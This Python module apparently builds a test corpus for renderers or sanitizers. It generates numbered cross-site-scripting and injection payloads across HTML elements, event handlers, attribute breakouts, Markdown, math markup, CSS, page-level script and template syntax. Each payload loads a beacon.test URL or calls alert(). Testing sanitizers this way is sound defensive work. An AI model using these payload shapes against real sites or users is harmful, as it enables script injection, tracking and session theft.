"""Texts that would run, or tell another host that they were shown, if a page took them for more than text.

Made, not collected: elements by the attribute that loads or runs, the ways such a thing is hidden, and the languages
that a page might read besides HTML. Each has a number, which its beacon's address and its dialog carry.
"""

from __future__ import annotations

from html import escape

BEACON = "http://beacon.test"
LOADING = {
    "img": "src",
    "img ": "srcset",
    "video": "poster",
    "audio": "src",
    "source": "srcset",
    "input type=image": "src",
    "iframe": "src",
    "frame": "src",
    "embed": "src",
    "object": "data",
    "script": "src",
    "link rel=stylesheet": "href",
    "link rel=preload as=image": "href",
    "link rel=dns-prefetch": "href",
    "svg><image": "href",
    "svg><use": "xlink:href",
    "svg><feImage": "href",
    "body": "background",
    "table": "background",
    "track": "src",
    "portal": "src",
    "a autofocus": "ping",
}
RUNNING = {
    "img src=x": "onerror",
    "svg": "onload",
    "body": "onload",
    "details open": "ontoggle",
    "input autofocus": "onfocus",
    "video src=x": "onerror",
    "audio src=x": "onloadstart",
    "marquee": "onstart",
    "iframe src=about:blank": "onload",
    "math><mtext><img src=x": "onerror",
    "svg><animate attributeName=x dur=1s": "onbegin",
    "object data=x": "onerror",
    "style": "onload",
    "div style=animation-name:x": "onanimationstart",
    "select autofocus": "onfocus",
    "p tabindex=1 autofocus": "onfocusin",
}
BREAKING = (
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    "</style>",
    "</svg>",
    "`>",
    '\\">',
)
ENTERING = (
    '" onmouseover="RUN" x="',
    "' autofocus onfocus='RUN",
    '" style="background:url(LOAD)',
    "` onclick=`RUN",
)
MARKDOWN = (
    "![x](LOAD)",
    "[![x](LOAD)](LOAD)",
    "![x][r]\n\n[r]: LOAD",
    "[x](javascript:RUN)",
    "[x](data:text/html,<script>RUN</script>)",
    "<LOAD>",
    "[x]: LOAD 'y'\n![x]",
    "<img\nsrc=LOAD\n>",
    "```html\n<img src=LOAD>\n```\n<img src=LOAD>",
    "[x](vbscript:RUN)",
    "| a |\n|---|\n| ![x](LOAD) |",
    "&lt;img src=LOAD&gt;",
    "<div>\n\n![x](LOAD)\n\n</div>",
)
MATHEMATICS = (
    "$\\href{javascript:RUN}{x}$",
    "$\\includegraphics{LOAD}$",
    "$$\\htmlStyle{background:url(LOAD)}{x}$$",
    '$\\htmlData{x=y" onmouseover="RUN}{1}$',
    "$\\url{LOAD}$",
    "$\\unicode{<img src=LOAD>}$",
    "$\\text{<img src=x onerror=RUN>}$",
)
STYLES = (
    "<style>@import 'LOAD';</style>",
    "<style>*{background:url(LOAD)}</style>",
    "<div style=\"background:url('LOAD')\">x</div>",
    "<div style=list-style-image:url(LOAD)>x</div>",
    "<style>@font-face{font-family:a;src:url(LOAD)}*{font-family:a}</style>",
    '<p style="content:url(LOAD)">x</p>',
)
PAGES = (
    "<meta http-equiv=refresh content='0;url=LOAD'>",
    "<base href=LOAD>",
    "<form action=LOAD><input autofocus onfocus=this.form.submit()></form>",
    "<script>RUN</script>",
    "<script>fetch('LOAD')</script>",
    "<script>navigator.sendBeacon('LOAD')</script>",
    "<script>new Image().src='LOAD'</script>",
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "<template shadowrootmode=open><img src=LOAD></template>",
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "<math><mi xlink:href=javascript:RUN>x</mi></math>",
    "<svg><script>RUN</script></svg>",
    "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
    "<svg><style>@import url(LOAD);</style></svg>",
    "<svg><foreignObject><img src=LOAD></foreignObject></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>",
    "<a href=javascript:RUN autofocus>x</a>",
    "<button formaction=javascript:RUN autofocus>x</button>",
    "<img src=x:x onerror=RUN//",
    "<x onpointerrawupdate=RUN>x",
)
TEMPLATES = (
    "{{constructor.constructor('RUN')()}}",
    "${RUN}",
    "#{RUN}",
    "<%= RUN %>",
    "{{#with \"x\"}}{{lookup (lookup this 'constructor') 'constructor'}}{{/with}}<img src=LOAD>",
    "{@html '<img src=LOAD>'}",
    "${fetch('LOAD')}",
    "javascript:RUN",
    "\\u003cimg src=LOAD\\u003e",
    "<img src=LOAD\u2028>",
    "<\u200bimg src=LOAD>",
    "%3Cimg%20src=LOAD%3E",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "\x01<img src=LOAD>",
    "＜img src=LOAD＞",
)


def payloads() -> list[str]:
    """All of them, each with its number in what it would load or run."""
    loading, running = [*LOADING.items()], [*RUNNING.items()]
    shapes = [f"<{element.strip()} {attribute}=LOAD>" for element, attribute in loading]
    shapes += [f"<{element} {handler}=RUN>" for element, handler in running]
    shapes += [f"{closing}<img src={what}>" for closing in BREAKING for what in ("x onerror=RUN", "LOAD")]
    shapes += [f"<{element.upper()}/{handler.title()}=RUN>" for element, handler in running[:8]]
    shapes += [f"<{element}\t{handler}\n=\n'RUN'>" for element, handler in running[:8]]
    shapes += [escape(f"<{element} {handler}=") + "RUN>" for element, handler in running[:4]]
    shapes += [f"<{element}/{attribute}='LOAD'" for element, attribute in loading[:8]]
    shapes += [*ENTERING, *MARKDOWN, *MATHEMATICS, *STYLES, *PAGES, *TEMPLATES]
    return [
        shape.replace("LOAD", f"{BEACON}/{number}").replace("RUN", f"alert({number})")
        for number, shape in enumerate(dict.fromkeys(shapes))
    ]
